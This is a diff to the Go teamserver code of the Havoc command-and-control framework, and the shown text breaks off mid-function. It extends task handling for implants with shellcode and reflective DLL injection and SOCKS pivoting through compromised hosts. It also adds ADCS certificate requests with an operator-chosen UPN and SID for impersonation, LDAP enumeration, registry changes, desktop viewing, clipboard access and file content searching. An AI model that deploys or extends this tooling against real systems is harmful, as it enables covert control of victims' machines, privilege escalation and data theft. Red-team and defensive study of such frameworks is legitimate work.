@@ -8,18 +8,19 @@ import (
 	"encoding/json"
 	"errors"
 	"fmt"
-	"io"
 	"math/rand"
-	"net"
-	"os"
 	"strconv"
 	"strings"
 	"time"
 
+	"Havoc/pkg/budget"
 	"Havoc/pkg/common"
 	"Havoc/pkg/common/parser"
+	"Havoc/pkg/eventbus"
+	"Havoc/pkg/keyring"
 	"Havoc/pkg/logger"
 	"Havoc/pkg/logr"
+	"Havoc/pkg/seal"
 	"Havoc/pkg/socks"
 	"Havoc/pkg/utils"
 	"Havoc/pkg/win32"
@@ -30,13 +31,14 @@ import (
 // we upload heavy files to the implant in chunks, so SMB agents can handle the size
 func (a *Agent) UploadMemFileInChunks(FileData []byte) uint32 {
 	var ID uint32
-	var chunkSize = DEMON_MAX_RESPONSE_LENGTH
+	var chunkSize = a.ResponseLength() - DEMON_MEM_FILE_OVERHEAD
 
 	// generate a random ID
 	ID = rand.Uint32()
 
 	FileSize := len(FileData)
-	// split the file in chunks of DEMON_MAX_RESPONSE_LENGTH
+	// split the file in chunks that fit in a response to the agent.
+	// the agent reassembles them over as many checkins as it takes.
 	for start := 0; start <= FileSize; start += chunkSize {
 		end := start + chunkSize
 
@@ -81,7 +83,7 @@ func (a *Agent) TeamserverTaskPrepare(Command string, Console func(AgentID strin
 
 					for _, task := range a.JobQueue {
 						var (
-							Payload = BuildPayloadMessage([]Job{task}, a.Encryption.AESKey, a.Encryption.AESIv)
+							Payload = a.PayloadMessage([]Job{task})
 							Size    = common.ByteCountSI(int64(len(Payload)))
 						)
 						ListTable += fmt.Sprintf(" %-8s  %-19s  %-8s  %s\n", task.TaskID, task.Created, Size, task.CommandLine)
@@ -94,8 +96,9 @@ func (a *Agent) TeamserverTaskPrepare(Command string, Console func(AgentID strin
 					})
 				} else {
 					Console(a.NameID, map[string]string{
-						"Type":    "Error",
-						"Message": "No jobs in task queue",
+						"Type":      "Error",
+						"Message":   "No jobs in task queue",
+						"ErrorCode": ERROR_CODE_NOT_FOUND,
 					})
 				}
 				break
@@ -110,8 +113,9 @@ func (a *Agent) TeamserverTaskPrepare(Command string, Console func(AgentID strin
 					})
 				} else {
 					Console(a.NameID, map[string]string{
-						"Type":    "Error",
-						"Message": "No jobs in task queue",
+						"Type":      "Error",
+						"Message":   "No jobs in task queue",
+						"ErrorCode": ERROR_CODE_NOT_FOUND,
 					})
 				}
 				break
@@ -324,9 +328,13 @@ func (a *Agent) TaskPrepare(Command int, Info any, Message *map[string]string, C
 				return nil, err
 			}
 
+			/* the whole file (no range) and its hash first. files the loot already has don't get transferred again */
 			job.Data = []interface{}{
 				SubCommand,
 				FileName,
+				int64(0),
+				int64(0),
+				win32.TRUE,
 			}
 			break
 
@@ -692,6 +700,11 @@ func (a *Agent) TaskPrepare(Command int, Info any, Message *map[string]string, C
 			}
 		}
 
+		/* an object file only runs inside of a process of the same architecture */
+		if err = a.ProcessArchCheck(CoffArch(ObjectFile), "object file"); err != nil {
+			return nil, err
+		}
+
 		BofFileId = a.UploadMemFileInChunks(ObjectFile)
 		// a BOF can have an entire PE in its parameters, so chunk them
 		ParamsFileId = a.UploadMemFileInChunks(Parameters)
@@ -759,15 +772,17 @@ func (a *Agent) TaskPrepare(Command int, Info any, Message *map[string]string, C
 		var (
 			Binary, _            = base64.StdEncoding.DecodeString(Optional["Binary"].(string))
 			Args, _              = base64.StdEncoding.DecodeString(Optional["Arguments"].(string))
-			DllReflectiveLdrPath string
 			DllReflectiveLdr     []byte
 		)
 
-		DllReflectiveLdrPath = utils.GetTeamserverPath() + "/payloads/DllLdr.x64.bin"
+		/* the sacrificial process has the architecture of the agent */
+		if err = a.ProcessArchCheck(PeArch(Binary), "dll"); err != nil {
+			return nil, err
+		}
 
-		DllReflectiveLdr, err := os.ReadFile(DllReflectiveLdrPath)
+		DllReflectiveLdr, err := ReflectiveLoader(a.Info.ProcessArch)
 		if err != nil {
-			return nil, errors.New("Couldn't read content of file: " + err.Error())
+			return nil, err
 		}
 
 		job.Data = []interface{}{
@@ -832,14 +847,21 @@ func (a *Agent) TaskPrepare(Command int, Info any, Message *map[string]string, C
 			Param, _             = Optional["Arguments"].(string)
 			InjectMethode        int
 			DllReflectiveLdr     []byte
-			DllReflectiveLdrPath string
+			Arch                 = PeArch(binaryDecoded)
 		)
 
-		DllReflectiveLdrPath = utils.GetTeamserverPath() + "/payloads/DllLdr.x64.bin"
+		/* the loader has to match the dll (and the target process) */
+		if len(Arch) == 0 {
+			Arch = a.Info.ProcessArch
+		}
+
+		if err = a.ArchCheck(Arch); err != nil {
+			return nil, err
+		}
 
-		DllReflectiveLdr, err := os.ReadFile(DllReflectiveLdrPath)
+		DllReflectiveLdr, err := ReflectiveLoader(Arch)
 		if err != nil {
-			return nil, errors.New("Couldn't read content of file: " + err.Error())
+			return nil, err
 		}
 
 		job.Data = []interface{}{
@@ -909,6 +931,10 @@ func (a *Agent) TaskPrepare(Command int, Info any, Message *map[string]string, C
 					x64 = win32.TRUE
 				}
 
+				if err = a.ArchCheck(fmt.Sprint(Optional["Arch"])); err != nil {
+					return job, err
+				}
+
 				job.Data = []interface{}{
 					INJECT_WAY_INJECT,
 					Technique,
@@ -960,6 +986,10 @@ func (a *Agent) TaskPrepare(Command int, Info any, Message *map[string]string, C
 					x64 = win32.TRUE
 				}
 
+				if err = a.ArchCheck(fmt.Sprint(Optional["Arch"])); err != nil {
+					return job, err
+				}
+
 				job.Data = []interface{}{
 					INJECT_WAY_SPAWN,
 					Technique,
@@ -1010,6 +1040,11 @@ func (a *Agent) TaskPrepare(Command int, Info any, Message *map[string]string, C
 					x64 = win32.TRUE
 				}
 
+				/* executed inside of the agent process */
+				if err = a.ProcessArchCheck(fmt.Sprint(Optional["Arch"]), "shellcode"); err != nil {
+					return job, err
+				}
+
 				job.Data = []interface{}{
 					INJECT_WAY_EXECUTE,
 					Technique,
@@ -1322,6 +1357,11 @@ func (a *Agent) TaskPrepare(Command int, Info any, Message *map[string]string, C
 
 			break
 
+		case "implant.download.jitter":
+			ConfigId = CONFIG_IMPLANT_DOWNLOAD_JITTER
+			Value, _ = strconv.Atoi(ConfigVal.(string))
+			break
+
 		case "memory.alloc":
 			ConfigId = CONFIG_MEMORY_ALLOC
 			Value, _ = strconv.Atoi(ConfigVal.(string))
@@ -1790,167 +1830,11 @@ func (a *Agent) TaskPrepare(Command int, Info any, Message *map[string]string, C
 				return nil, errors.New("failed to create a new socks5 instance")
 			}
 
-			Socks.SetHandler(func(s *socks.Socks, conn net.Conn) {
-
-				var (
-					ConnectJob        Job
-					NegotiationHeader socks.NegotiationHeader
-					SocksHeader       socks.SocksHeader
-					err               error
-					SocketId          int32
-				)
-
-				// parse all the methods supported by the client
-				NegotiationHeader, err = socks.SubNegotiationClient(conn)
-				if err != nil {
-					logger.Error("Failed to read socks negotiation header: " + err.Error())
-					return
-				}
-
-				// we only support NOAUTH, there is no real need to support other types
-				HasNoAuth := false
-				for _, Method := range NegotiationHeader.Methods {
-					if Method == socks.NoAuth {
-						HasNoAuth = true
-						break
-					}
-				}
-
-				// is NOAUTH is not an option, then bail out
-				if HasNoAuth == false {
-					_, err = conn.Write([]byte{socks.Version, socks.NoMatch})
-					if err != nil {
-						logger.Error("Failed to send response to socks client: " + err.Error())
-					}
-					return
-				}
-
-				// tell the client that we support NOAUTH
-				_, err = conn.Write([]byte{socks.Version, socks.NoAuth})
-				if err != nil {
-					logger.Error("Failed to send response to socks client: " + err.Error())
-					return
-				}
-
-				SocksHeader, err = socks.ReadSocksHeader(conn)
-				if err != nil {
-					logger.Error("Failed to read socks header: " + err.Error())
-					return
-				}
-
-				/* check if it's a CONNECT command */
-				if SocksHeader.Command != socks.ConnectCommand {
-					err = socks.SendCommandNotSupported(conn)
-					if err != nil {
-						logger.Error("Failed to send response to socks client: " + err.Error())
-						return
-					}
-					return
-				}
-
-				// NOTE: if you don't want to support IPv6, uncomment this:
-				/*
-					if SocksHeader.ATYP == socks.IPv6 {
-						err = socks.SendAddressTypeNotSupported(conn)
-						if err != nil {
-							logger.Error("Failed to send response to socks client: " + err.Error())
-							return
-						}
-						return
-					}
-				*/
-
-				/* generate some random socket id */
-				SocketId = int32(rand.Uint32())
-
-				s.Clients = append(s.Clients, SocketId)
-
-				a.SocksClientAdd(SocketId, conn, SocksHeader.ATYP, SocksHeader.IpDomain, SocksHeader.Port)
+			Socks.Budget = teamserver.Budget(budget.PIVOTS)
 
-				/* now parse the host:port and send it to the agent. */
-				ConnectJob = Job{
-					Command: COMMAND_SOCKET,
-					Data: []any{
-						SOCKET_COMMAND_CONNECT,
-						SocketId,
-						SocksHeader.ATYP,
-						SocksHeader.IpDomain,
-						SocksHeader.Port,
-					},
-				}
-
-				a.AddJobToQueue(ConnectJob)
-
-				/* goroutine to read from socks proxy socket and send it to the agent */
-				go func(SocketId int) {
-
-					for {
-
-						/* check if the connection is still up */
-						if client := a.SocksClientGet(SocketId); client != nil {
-
-							if !client.Connected {
-								/* if we are still not connected then skip */
-								continue
-							}
-
-							if Data, err := a.SocksClientRead(client); err == nil {
-
-								/* only send the data if there is something... */
-								if len(Data) > 0 {
-
-									/* make a new job */
-									var job = Job{
-										Command: COMMAND_SOCKET,
-										Data: []any{
-											SOCKET_COMMAND_WRITE,
-											client.SocketID,
-											Data,
-										},
-									}
-
-									/* append the job to the task queue */
-									a.AddJobToQueue(job)
-
-								}
-
-							} else {
-
-								if err != io.EOF {
-
-									/* we failed to read from the socks proxy */
-									logger.Error(fmt.Sprintf("Failed to read from socket %08x: %v", SocketId, err))
-
-									a.SocksClientClose(int32(SocketId))
-
-									/* make a new job */
-									var job = Job{
-										Command: COMMAND_SOCKET,
-										Data: []any{
-											SOCKET_COMMAND_CLOSE,
-											int32(SocketId),
-										},
-									}
-
-									/* append the job to the task queue */
-									a.AddJobToQueue(job)
-
-								}
-
-								break
-							}
-
-						} else {
-							/* seems like it has been removed. let's exit this routine */
-
-							break
-						}
-
-					}
-
-				}(int(SocketId))
-
-			})
+			Socks.SetHandler(SocksHandler(teamserver, Param, func(socks.SocksHeader) *Agent {
+				return a
+			}))
 
 			/* TODO: append the socket to a list/array now */
 			a.SocksSvrMtx.Lock()
@@ -1962,20 +1846,24 @@ func (a *Agent) TaskPrepare(Command int, Info any, Message *map[string]string, C
 
 			a.SocksSvrMtx.Unlock()
 
-			go func() {
+			go teamserver.Supervise("socks proxy "+Param, func() {
 				err := Socks.Start()
 				if err != nil {
 					Socks.Failed = true
 					if Message != nil {
 						*Message = map[string]string{
-							"Type":    "Error",
-							"Message": fmt.Sprintf("Failed to start socks proxy: %v", err),
-							"Output":  "",
+							"Type":      "Error",
+							"Message":   fmt.Sprintf("Failed to start socks proxy: %v", err),
+							"ErrorCode": ERROR_CODE_FAILED,
+							"Output":    "",
 						}
 					}
+					teamserver.SocksChanged(a)
 					return
 				}
-			}()
+			})
+
+			teamserver.SocksChanged(a)
 
 			if Message != nil {
 				if !Socks.Failed {
@@ -2077,6 +1965,8 @@ func (a *Agent) TaskPrepare(Command int, Info any, Message *map[string]string, C
 
 			if found {
 
+				teamserver.SocksChanged(a)
+
 				if Message != nil {
 					*Message = map[string]string{
 						"Type":    "Info",
@@ -2136,6 +2026,8 @@ func (a *Agent) TaskPrepare(Command int, Info any, Message *map[string]string, C
 
 			a.SocksSvrMtx.Unlock()
 
+			teamserver.SocksChanged(a)
+
 			if Message != nil {
 				*Message = map[string]string{
 					"Type":    "Info",
@@ -2276,156 +2168,565 @@ func (a *Agent) TaskPrepare(Command int, Info any, Message *map[string]string, C
 
 		break
 
-	default:
-		return job, errors.New(fmt.Sprint("Command not found", Command))
-	}
+	case COMMAND_SCRIPT:
+		var (
+			Source string
+			Args   []string
+		)
 
-	return job, nil
-}
+		if Name, ok := Optional["Name"].(string); ok && len(Name) > 0 {
+			if Source, err = teamserver.ScriptGet(Name); err != nil {
+				return nil, errors.New("script " + Name + " not found")
+			}
+		} else if Encoded, ok := Optional["Script"].(string); ok {
+			Decoded, err := base64.StdEncoding.DecodeString(Encoded)
+			if err != nil {
+				return nil, errors.New("Failed to decode script: " + err.Error())
+			}
 
-func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.Parser, teamserver TeamServer) {
-	var NameID, _ = strconv.ParseInt(a.NameID, 16, 64)
-	AgentID := int(NameID)
+			Source = string(Decoded)
+		} else {
+			return nil, errors.New("script field Name or Script is empty")
+		}
 
-	/* if the RequestID was not generated by the TS, reject the request */
-	if a.IsKnownRequestID(teamserver, RequestID, CommandID) == false {
-		logger.Warn(fmt.Sprintf("Agent: %x, CommandID: %d, unknown RequestID: %x. This is either a bug or malicious activity", AgentID, CommandID, RequestID))
-		return
-	}
+		if err = ScriptVerify(Source); err != nil {
+			return nil, errors.New("invalid script: " + err.Error())
+		}
 
-	switch CommandID {
+		if val, ok := Optional["Arguments"].(string); ok {
+			Args = ScriptArguments(val)
+		}
+
+		job.Data = []interface{}{
+			Source,
+			len(Args),
+		}
+
+		for _, Arg := range Args {
+			job.Data = append(job.Data, Arg)
+		}
 
-	case COMMAND_GET_JOB:
-		/* this is most likely never going to reach. but just in case... */
-		logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_GET_JOB ??", AgentID))
 		break
 
-	case COMMAND_EXIT:
-		if Parser.CanIRead([]parser.ReadType{parser.ReadInt32}) {
-			var (
-				ExitMethod = Parser.ParseInt32()
-				Message    = make(map[string]string)
-			)
+	case COMMAND_LDAP:
+		var (
+			Server, _     = Optional["Server"].(string)
+			BaseDN, _     = Optional["BaseDN"].(string)
+			Filter, _     = Optional["Filter"].(string)
+			Attributes, _ = Optional["Attributes"].(string)
+			Scope, _      = Optional["Scope"].(string)
+			Context, _    = Optional["Context"].(string)
+			PageSize      = LDAP_PAGE_SIZE
+			MaxEntries    = LDAP_ENTRIES
+			ScopeID       int
+		)
 
-			logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_EXIT, ExitMethod: %d", AgentID, ExitMethod))
+		if len(Filter) == 0 {
+			Filter = "(objectClass=*)"
+		}
 
-			if ExitMethod == 1 {
-				Message["Type"] = "Good"
-				Message["Message"] = "Agent has been tasked to cleanup and exit thread. cya..."
-			} else if ExitMethod == 2 {
-				Message["Type"] = "Good"
-				Message["Message"] = "Agent has been tasked to cleanup and exit process. cya..."
+		if ScopeID, err = LdapScope(Scope); err != nil {
+			return nil, err
+		}
+
+		if val, ok := Optional["PageSize"].(string); ok && len(val) > 0 {
+			if PageSize, err = strconv.Atoi(val); err != nil || PageSize < 1 || PageSize > LDAP_PAGE_MAX {
+				return nil, fmt.Errorf("page size has to be between 1 and %v", LDAP_PAGE_MAX)
 			}
+		}
 
-			teamserver.Died(a)
-			a.RequestCompleted(RequestID)
+		if val, ok := Optional["MaxEntries"].(string); ok && len(val) > 0 {
+			if MaxEntries, err = strconv.Atoi(val); err != nil || MaxEntries < 1 || MaxEntries > LDAP_ENTRIES_MAX {
+				return nil, fmt.Errorf("max entries has to be between 1 and %v", LDAP_ENTRIES_MAX)
+			}
+		}
 
-			teamserver.AgentConsole(a.NameID, HAVOC_CONSOLE_MESSAGE, Message)
-		} else {
-			logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_EXIT, Invalid packet", AgentID))
+		job.Data = []interface{}{
+			Server,
+			BaseDN,
+			Filter,
+			Attributes,
+			ScopeID,
+			PageSize,
+			MaxEntries,
+			Context,
 		}
 
-	case COMMAND_KILL_DATE:
+		break
+
+	case COMMAND_ADCS:
 		var (
-			Message = make(map[string]string)
+			SubCommand, _ = Optional["SubCommand"].(string)
+			Server, _     = Optional["Server"].(string)
 		)
 
-		logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_KILL_DATE", AgentID))
-
-		Message["Type"] = "Good"
-		Message["Message"] = "Agent has been reached its kill date, tasked to cleanup and exit thread. cya..."
+		switch SubCommand {
 
-		teamserver.Died(a)
-		a.RequestCompleted(RequestID)
+		/* the enumeration is a ldap search of the public key services */
+		case "templates":
+			job.Command = COMMAND_LDAP
+			job.Data = []interface{}{
+				Server,
+				"CN=Certificate Templates,CN=Public Key Services,CN=Services",
+				"(objectClass=pKICertificateTemplate)",
+				ADCS_TEMPLATE_ATTRIBUTES,
+				LDAP_SCOPE_ONELEVEL,
+				LDAP_PAGE_SIZE,
+				LDAP_ENTRIES,
+				"configurationNamingContext",
+			}
 
-		teamserver.AgentConsole(a.NameID, HAVOC_CONSOLE_MESSAGE, Message)
+			break
 
-	case COMMAND_CHECKIN:
-		logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_CHECKIN", AgentID))
-		var Message = make(map[string]string)
+		case "authorities":
+			job.Command = COMMAND_LDAP
+			job.Data = []interface{}{
+				Server,
+				"CN=Enrollment Services,CN=Public Key Services,CN=Services",
+				"(objectClass=pKIEnrollmentService)",
+				ADCS_AUTHORITY_ATTRIBUTES,
+				LDAP_SCOPE_ONELEVEL,
+				LDAP_PAGE_SIZE,
+				LDAP_ENTRIES,
+				"configurationNamingContext",
+			}
 
-		Message["Type"] = "Info"
-		Message["Message"] = "Received checkin request"
+			break
 
-		if Parser.Length() >= 32+16 {
+		case "request":
 			var (
-				DemonID      int
-				Hostname     string
-				DomainName   string
-				Username     string
-				InternalIP   string
-				ProcessName  string
-				ProcessPID   int
-				ProcessTID   int
-				OsVersion    []int
-				OsArch       int
-				Elevated     int
-				BaseAddress  int64
-				ProcessArch  int
-				ProcessPPID  int
-				SleepDelay   int
-				SleepJitter  int
-				KillDate     int64
-				WorkingHours int32
+				Request   = &AdcsRequest{}
+				Authority string
+				CSR       string
 			)
 
-			a.Encryption.AESKey = Parser.ParseAtLeastBytes(32)
-			a.Encryption.AESIv = Parser.ParseAtLeastBytes(16)
+			Authority, _ = Optional["Authority"].(string)
+			Request.Template, _ = Optional["Template"].(string)
+			Request.Subject, _ = Optional["Subject"].(string)
+			Request.UPN, _ = Optional["UPN"].(string)
+			Request.DNS, _ = Optional["DNS"].(string)
+			Request.SID, _ = Optional["SID"].(string)
 
-			if Parser.CanIRead([]parser.ReadType{parser.ReadInt32, parser.ReadBytes, parser.ReadBytes, parser.ReadBytes, parser.ReadBytes, parser.ReadBytes, parser.ReadInt32, parser.ReadInt32, parser.ReadInt32, parser.ReadInt32, parser.ReadInt32, parser.ReadInt32, parser.ReadInt32, parser.ReadInt32, parser.ReadInt32, parser.ReadInt32, parser.ReadInt32, parser.ReadInt32, parser.ReadInt64, parser.ReadInt32}) {
-				DemonID = Parser.ParseInt32()
-				Hostname = Parser.ParseString()
-				Username = Parser.ParseString()
-				DomainName = Parser.ParseString()
-				InternalIP = Parser.ParseString()
-				ProcessName = Parser.ParseUTF16String()
-				ProcessPID = Parser.ParseInt32()
-				ProcessTID = Parser.ParseInt32()
-				ProcessPPID = Parser.ParseInt32()
-				ProcessArch = Parser.ParseInt32()
-				Elevated = Parser.ParseInt32()
-				BaseAddress = Parser.ParseInt64()
-				OsVersion = []int{Parser.ParseInt32(), Parser.ParseInt32(), Parser.ParseInt32(), Parser.ParseInt32(), Parser.ParseInt32()}
-				OsArch = Parser.ParseInt32()
-				SleepDelay = Parser.ParseInt32()
-				SleepJitter = Parser.ParseInt32()
-				KillDate = Parser.ParseInt64()
-				WorkingHours = int32(Parser.ParseInt32())
+			if !adcsTemplateName.MatchString(Request.Template) {
+				return nil, errors.New("invalid certificate template: " + Request.Template)
+			}
 
-				a.Active = true
+			if Request.Authority, err = teamserver.AdcsAuthority(a, Authority); err != nil {
+				return nil, err
+			}
 
-				a.NameID = fmt.Sprintf("%08x", DemonID)
-				a.Info.FirstCallIn = a.Info.FirstCallIn
-				a.Info.LastCallIn = a.Info.LastCallIn
-				a.Info.Hostname = Hostname
-				a.Info.DomainName = DomainName
-				a.Info.Username = Username
-				a.Info.InternalIP = InternalIP
-				a.Info.SleepDelay = SleepDelay
-				a.Info.SleepJitter = SleepJitter
-				a.Info.KillDate = KillDate
-				a.Info.WorkingHours = WorkingHours
+			if len(Request.Subject) == 0 {
+				if len(Request.UPN) > 0 {
+					Request.Subject, _, _ = strings.Cut(Request.UPN, "@")
+				} else {
+					Request.Subject = a.Info.Username
+				}
+			}
 
-				// a.Info.ExternalIP 	= strings.Split(connection.RemoteAddr().String(), ":")[0]
-				// a.Info.Listener 	= t.Name
+			if CSR, err = AdcsCSR(Request); err != nil {
+				return nil, errors.New("Failed to create certificate request: " + err.Error())
+			}
 
-				switch ProcessArch {
+			teamserver.AdcsRequested(a, job.RequestID, ClientID, Request)
 
-				case PROCESS_ARCH_UNKNOWN:
-					a.Info.ProcessArch = "Unknown"
-					break
+			job.Data = []interface{}{
+				ADCS_COMMAND_REQUEST,
+				common.EncodeUTF16(Request.Authority),
+				common.EncodeUTF16(CSR),
+				common.EncodeUTF16("CertificateTemplate:" + Request.Template),
+			}
 
-				case PROCESS_ARCH_X64:
-					a.Info.ProcessArch = "x64"
-					break
+			break
 
-				case PROCESS_ARCH_X86:
-					a.Info.ProcessArch = "x86"
-					break
+		default:
+			return nil, errors.New("adcs sub command not found: " + SubCommand)
+		}
 
-				case PROCESS_ARCH_IA64:
-					a.Info.ProcessArch = "IA64"
-					break
+		break
+
+	case COMMAND_CLIPBOARD:
+		var (
+			SubCommand, _ = Optional["SubCommand"].(string)
+			ClipboardID   int
+			ok            bool
+		)
+
+		if ClipboardID, ok = clipboardCommands[SubCommand]; !ok {
+			return nil, errors.New("clipboard sub command not found: " + SubCommand)
+		}
+
+		job.Data = []interface{}{
+			ClipboardID,
+		}
+
+		break
+
+	case COMMAND_REGISTRY:
+		var (
+			SubCommand, _ = Optional["SubCommand"].(string)
+			Key, _        = Optional["Key"].(string)
+			Name, _       = Optional["Name"].(string)
+			View, _       = Optional["View"].(string)
+			RegistryID    int
+			Hive          int
+			Path          string
+			Access        int
+			ok            bool
+		)
+
+		if RegistryID, ok = registryCommands[SubCommand]; !ok {
+			return nil, errors.New("registry sub command not found: " + SubCommand)
+		}
+
+		if Hive, Path, err = RegistryKeyPath(Key); err != nil {
+			return nil, err
+		}
+
+		switch View {
+		case "":
+		case "32":
+			Access = KEY_WOW64_32KEY
+		case "64":
+			Access = KEY_WOW64_64KEY
+		default:
+			return nil, errors.New("registry view has to be 32 or 64")
+		}
+
+		job.Data = []interface{}{
+			RegistryID,
+			Hive,
+			common.EncodeUTF16(Path),
+			common.EncodeUTF16(Name),
+			Access,
+		}
+
+		if RegistryID == REGISTRY_COMMAND_SET || RegistryID == REGISTRY_COMMAND_DELETE {
+			var Change = RegistryChange{
+				Operation: SubCommand,
+				Hive:      RegistryHive(Hive),
+				Path:      Path,
+				Name:      Name,
+				View:      View,
+			}
+
+			if RegistryID == REGISTRY_COMMAND_SET {
+				var (
+					Type, _ = Optional["Type"].(string)
+					Data, _ = Optional["Data"].(string)
+				)
+
+				TypeID, Encoded, err := registryEncode(Type, Data)
+				if err != nil {
+					return nil, err
+				}
+
+				Change.Type = RegistryType(TypeID)
+				Change.Data = registryFormat(TypeID, Encoded)
+
+				job.Data = append(job.Data, TypeID, Encoded)
+			}
+
+			/* logged once the agent answered, for the cleanup report */
+			teamserver.RegistryRequested(a, job.RequestID, ClientID, Change)
+		}
+
+		break
+
+	case COMMAND_DESKTOP:
+		var (
+			SubCommand, _ = Optional["SubCommand"].(string)
+			DesktopID     int
+			ok            bool
+		)
+
+		if DesktopID, ok = desktopCommands[SubCommand]; !ok {
+			return nil, errors.New("desktop sub command not found: " + SubCommand)
+		}
+
+		job.Data = []interface{}{
+			DesktopID,
+		}
+
+		if DesktopID == DESKTOP_COMMAND_START {
+			var View = DesktopView{
+				Interval:  DESKTOP_INTERVAL,
+				Scale:     DESKTOP_SCALE,
+				Bandwidth: DESKTOP_BANDWIDTH,
+			}
+
+			for Key, Value := range map[string]*int{"Interval": &View.Interval, "Scale": &View.Scale, "Bandwidth": &View.Bandwidth} {
+				if val, ok := Optional[Key].(string); ok && len(val) > 0 {
+					if *Value, err = strconv.Atoi(val); err != nil || *Value <= 0 {
+						return nil, errors.New("desktop " + strings.ToLower(Key) + " has to be a positive number")
+					}
+				}
+			}
+
+			if View.Scale > DESKTOP_SCALE_MAX {
+				return nil, fmt.Errorf("desktop scale has to be at most %v", DESKTOP_SCALE_MAX)
+			}
+
+			if Record, ok := Optional["Record"].(string); ok {
+				View.Record, _ = strconv.ParseBool(Record)
+			}
+
+			/* the bandwidth cap turns into the bytes a frame holds at most */
+			job.Data = append(job.Data, View.Interval*1000, View.Scale, View.Bandwidth*1024*View.Interval)
+
+			teamserver.DesktopStarted(a, job.RequestID, ClientID, View)
+		}
+
+		break
+
+	case COMMAND_FILESEARCH:
+		var Search FileSearch
+
+		if Search, err = FileSearchOptions(Optional); err != nil {
+			return nil, err
+		}
+
+		job.Data = []interface{}{
+			common.EncodeUTF16(Search.Path),
+			len(Search.Patterns),
+		}
+
+		for _, Pattern := range Search.Patterns {
+			job.Data = append(job.Data, common.EncodeUTF16(Pattern))
+		}
+
+		job.Data = append(job.Data,
+			Search.Depth,
+			Search.MinSize,
+			Search.MaxSize,
+			FileTimeOf(Search.After),
+			FileTimeOf(Search.Before),
+			[]byte(Search.Grep),
+			Search.Max,
+		)
+
+		/* the matches get indexed with the content they contain */
+		teamserver.FileSearchRequested(a, job.RequestID, Search)
+
+		break
+
+	default:
+		return job, errors.New(fmt.Sprint("Command not found", Command))
+	}
+
+	return job, nil
+}
+
+func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.Parser, teamserver TeamServer) {
+	var NameID, _ = strconv.ParseInt(a.NameID, 16, 64)
+	AgentID := int(NameID)
+
+	/* if the RequestID was not generated by the TS, reject the request */
+	if a.IsKnownRequestID(teamserver, RequestID, CommandID) == false {
+		logger.Warn(fmt.Sprintf("Agent: %x, CommandID: %d, unknown RequestID: %x. This is either a bug or malicious activity", AgentID, CommandID, RequestID))
+		return
+	}
+
+	/* answers of latency probes only time the route to the agent */
+	if a.LatencyAnswered(RequestID) {
+		return
+	}
+
+	if Task, ok := a.RequestTask(RequestID); ok && len(Task.TaskID) > 0 {
+		a.answering.Store(Task)
+		defer a.answering.Store(Job{})
+	}
+
+	/* the first result of a task of an operator completes it for the consumers of the event bus */
+	if Task, First := a.RequestAnswered(RequestID); First && len(Task.TaskID) > 0 {
+		defer teamserver.EventPublish(eventbus.TASK_COMPLETE, a.Info.Workspace, map[string]any{
+			"AgentID":     a.NameID,
+			"TaskID":      Task.TaskID,
+			"CommandID":   int(Task.Command),
+			"CommandLine": Task.CommandLine,
+			"Created":     Task.Created,
+		})
+	}
+
+	switch CommandID {
+
+	case COMMAND_GET_JOB:
+		/* this is most likely never going to reach. but just in case... */
+		logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_GET_JOB ??", AgentID))
+		break
+
+	case COMMAND_EXIT:
+		if Parser.CanIRead([]parser.ReadType{parser.ReadInt32}) {
+			var (
+				ExitMethod = Parser.ParseInt32()
+				Message    = make(map[string]string)
+			)
+
+			logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_EXIT, ExitMethod: %d", AgentID, ExitMethod))
+
+			if ExitMethod == 1 {
+				Message["Type"] = "Good"
+				Message["Message"] = "Agent has been tasked to cleanup and exit thread. cya..."
+			} else if ExitMethod == 2 {
+				Message["Type"] = "Good"
+				Message["Message"] = "Agent has been tasked to cleanup and exit process. cya..."
+			}
+
+			teamserver.Died(a)
+			a.RequestCompleted(RequestID)
+
+			/* the session is closed. its key is only kept sealed in the db */
+			a.Encryption.Destroy()
+
+			teamserver.AgentConsole(a.NameID, HAVOC_CONSOLE_MESSAGE, Message)
+		} else {
+			logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_EXIT, Invalid packet", AgentID))
+		}
+
+	case COMMAND_KILL_DATE:
+		var (
+			Message = make(map[string]string)
+		)
+
+		logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_KILL_DATE", AgentID))
+
+		Message["Type"] = "Good"
+		Message["Message"] = "Agent has been reached its kill date, tasked to cleanup and exit thread. cya..."
+
+		teamserver.Died(a)
+		a.RequestCompleted(RequestID)
+
+		/* the session is closed. its key is only kept sealed in the db */
+		a.Encryption.Destroy()
+
+		teamserver.AgentConsole(a.NameID, HAVOC_CONSOLE_MESSAGE, Message)
+
+	case COMMAND_CHECKIN:
+		logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_CHECKIN", AgentID))
+		var Message = make(map[string]string)
+
+		Message["Type"] = "Info"
+		Message["Message"] = "Received checkin request"
+
+		if Parser.Length() >= 32+16 {
+			var (
+				DemonID      int
+				Hostname     string
+				DomainName   string
+				Username     string
+				InternalIP   string
+				ProcessName  string
+				ProcessPID   int
+				ProcessTID   int
+				OsVersion    []int
+				OsArch       int
+				Elevated     int
+				BaseAddress  int64
+				ProcessArch  int
+				ProcessPPID  int
+				SleepDelay   int
+				SleepJitter  int
+				KillDate     int64
+				WorkingHours int32
+			)
+
+			var (
+				AESKey = Parser.ParseAtLeastBytes(32)
+				AESIv  = Parser.ParseAtLeastBytes(16)
+			)
+
+			a.Encryption.Set(AESKey, AESIv)
+			keyring.Wipe(AESKey, AESIv)
+
+			Protocol, err := ParseProtocolVersion(Parser)
+			if err != nil {
+				logger.Error(fmt.Sprintf("Agent: %x, Command: COMMAND_CHECKIN, %v", AgentID, err))
+			}
+
